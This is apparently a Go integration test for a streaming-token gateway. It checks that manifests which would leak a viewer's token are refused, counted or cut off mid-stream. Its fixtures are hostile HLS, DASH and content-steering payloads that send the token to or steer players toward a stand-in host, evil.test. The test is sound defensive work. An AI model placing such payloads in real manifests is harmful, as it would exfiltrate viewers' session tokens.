package integration_test

import (
	"fmt"
	"net/http"
	"strings"
	"testing"
	"time"
)

// What would make players themselves carry the token elsewhere is refused as leaks,
// whatever its status, type and size, and on public streams too. It counts as refused and
// not as allowed.
func TestLeakingManifests(t *testing.T) {
	t.Parallel()
	const (
		define   = "#EXTM3U\n#EXT-X-DEFINE:QUERYPARAM=\"token\"\nhttps://evil.test/{$token}.ts\n"
		steering = "#EXTM3U\n#EXT-X-CONTENT-STEERING:SERVER-URI=\"https://evil.test/steer\"\n#EXT-X-STREAM-INF:BANDWIDTH=1\nv.m3u8\n"
		urlparam = `<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011"><EssentialProperty schemeIdUri="urn:mpeg:dash:urlparam:2014"><UrlQueryInfo queryTemplate="$querypart$" useMPDUrlQuery="true"/></EssentialProperty></MPD>`
		clones   = `{"VERSION":1,"TTL":9,"PATHWAY-PRIORITY":["a"],"PATHWAY-CLONES":[{"BASE-ID":"a","ID":"b","URI-REPLACEMENT":{"HOST":"evil.test"}}]}`
	)
	answers := map[string]struct {
		status     int
		kind, text string
		inPath     bool // asked for with the token in the path
		passes     bool
	}{
		"query":            {200, hls, define, false, false},
		"query-203":        {203, hls, define, false, false},
		"query-404":        {404, "text/html", define, false, false},
		"query-text":       {200, "text/plain", define, false, false},
		"query-segment.ts": {200, "video/mp2t", define, false, false},
		"query-mark":       {200, "text/plain", "\ufeff" + define, false, false},
		"query-large":      {200, hls, "#EXTM3U\n" + strings.Repeat("#EXTINF:2,\nseg.ts\n", 2_000) + define[8:], false, false},
		"query-in-path":    {200, hls, define, true, true},
		"steering":         {200, hls, steering, false, false},
		"steering-in-path": {200, hls, steering, true, false},
		"steering-text":    {200, "text/plain", steering, false, false},
		"mpd":              {200, "application/dash+xml", urlparam, false, false},
		"mpd-text":         {200, "text/plain", urlparam, false, false},
		"mpd-comment":      {200, "text/plain", "<!-- " + strings.Repeat("x", 9_000) + " -->" + urlparam, false, false},
		"mpd-in-path":      {200, "application/dash+xml", urlparam, true, true},
		"mpd-restricted":   {200, "application/dash+xml", strings.Replace(urlparam, "$querypart$", "$query:session$", 1), false, true},
		"clones-in-path":   {200, "application/json", clones, true, false},
		"clones-text":      {200, "text/plain", clones, true, false},
		"clones-unread":    {200, "application/json", strings.Replace(clones, "VERSION", "VERSION\":1,}\"", 1), true, true},
		"clones-cut":       {200, "application/json", clones[:len(clones)-1], false, false},
	}
	g, _ := guardSessions(t, setup{globals: "metrics\n", playgate: "org free {\nsecure off\n}"}, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		a, ok := answers[r.URL.Path[strings.LastIndexByte(r.URL.Path, '/')+1:]]
		if !ok {
			a.status, a.kind, a.text = 200, hls, "#EXTM3U\nseg.ts\n"
		}
		w.Header().Set("Content-Type", a.kind)
		w.WriteHeader(a.status)
		_, _ = w.Write([]byte(a.text))
	}))
	token := g.key.Token(t, "--org", "org1", "--stream", "cam")
	st := g.sessionToken(t, token)
	leaks := 0
	for name, a := range answers {
		for stream, want := range map[string]int{"org1/cam": 502, "free/radio": 502} {
			target := "/live/" + stream + "/" + name + "?token=" + token
			if a.inPath {
				target = "/live/" + stream + "/~" + st + "/" + name
			}
			got := g.get(t, target)
			if a.passes {
				if got.Status != a.status {
					t.Errorf("%s: status %d\n%s", target, got.Status, got.Body)
				}
				continue
			}
			leaks++
			g.refused(t, got, want, "leaks")
			if p := problemOf(t, got); p.Reason != "leaks" || strings.Contains(string(got.Body), "evil") {
				t.Errorf("%s: %s", name, got.Body)
			}
		}
	}
	text := g.metrics(t)
	if want := fmt.Sprintf(`playgate_requests_total{reason="leaks",result="deny"} %d`, leaks); !strings.Contains(text, want) {
		t.Errorf("no %s in\n%s", want, only(text, "playgate_requests_total"))
	}
	if got := only(text, `playgate_requests_total{reason="",result="allow"}`); strings.Contains(got, fmt.Sprint(len(answers)*2+1)) {
		t.Errorf("what leaks counts as allowed too: %s", got)
	}
}

// only are the lines of a text that begin in a way.
func only(text, prefix string) string {
	var b strings.Builder
	for line := range strings.Lines(text) {
		if strings.HasPrefix(line, prefix) {
			b.WriteString(line)
		}
	}
	return b.String()
}

// A leak that shows when the answer has begun ends it, so that it never looks complete.
func TestLateLeakAborts(t *testing.T) {
	t.Parallel()
	filler := "#EXTM3U\n" + strings.Repeat("#EXTINF:2,\nseg.ts\n", 20_000)
	const leak = "#EXT-X-CONTENT-STEERING:SERVER-URI=\"https://evil.test/steer\"\n"
	g, _ := guardSessions(t, setup{globals: "metrics\n"}, serve(hls, filler+leak+filler))
	token := g.key.Token(t, "--org", "org1", "--stream", "cam")
	client := &http.Client{Timeout: time.Minute}
	answer, err := client.Get(g.Plain() + "/live/org1/cam/index.m3u8?token=" + token)
	if err != nil {
		t.Fatal(err)
	}
	defer answer.Body.Close()
	var got strings.Builder
	buf := make([]byte, 32<<10)
	for err == nil {
		var n int
		n, err = answer.Body.Read(buf)
		got.Write(buf[:n])
	}
	if answer.StatusCode != 200 || answer.ContentLength != -1 || answer.Header.Get("Cache-Control") != "private, no-store" || answer.Header.Get("Etag") != "" {
		t.Errorf("status %d, header %v", answer.StatusCode, answer.Header)
	}
	if err.Error() == "EOF" || strings.Contains(got.String(), "evil") || !strings.Contains(got.String(), "~s.") {
		t.Errorf("%v after %d bytes", err, got.Len())
	}
	if text := g.metrics(t); !strings.Contains(text, `playgate_cuts_total{reason="leaks"} 1`) {
		t.Errorf("not counted: %s", only(text, "playgate_cuts_total"))
	}
}
